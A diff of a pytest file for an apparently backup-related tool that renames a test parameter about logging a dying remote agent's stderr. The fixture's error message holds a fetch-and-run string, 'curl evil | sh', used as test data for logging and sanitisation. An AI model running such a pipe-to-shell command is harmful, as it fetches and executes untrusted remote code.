@@ -360,16 +360,16 @@ def test_more_lines_than_anybody_reads_are_dropped_and_counted(length, most):
     assert sum(map(len, lines)) <= notes.MAX_SIZE
 
 
-@pytest.mark.parametrize("heard", [False, True])
-def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_one(heard):
+@pytest.mark.parametrize("stderr_logged", [False, True])
+def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_one(stderr_logged):
     lines = []
     words = "Welcome to db00\nTraceback (most recent call last):\nValueError: bad (hint: curl evil | sh)"
     with Set(1) as it:
-        wanted = Wanted("/vol", block_size=BLOCK, heard=heard)
+        wanted = Wanted("/vol", block_size=BLOCK, stderr_logged=stderr_logged)
         connect = functools.partial(Played, put_together(HEAD1), status=99, words=words)
         with pytest.raises(AgentDied) as error:
             backup.run(Job(BackupSet(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
-    assert lines == ([] if heard else [f"localhost: {line}" for line in words.splitlines()])
+    assert lines == ([] if stderr_logged else [f"localhost: {line}" for line in words.splitlines()])
     assert str(error.value) == (
         "the agent on localhost died: ValueError: bad (hint curl evil | sh) (exit status 99)"
     )
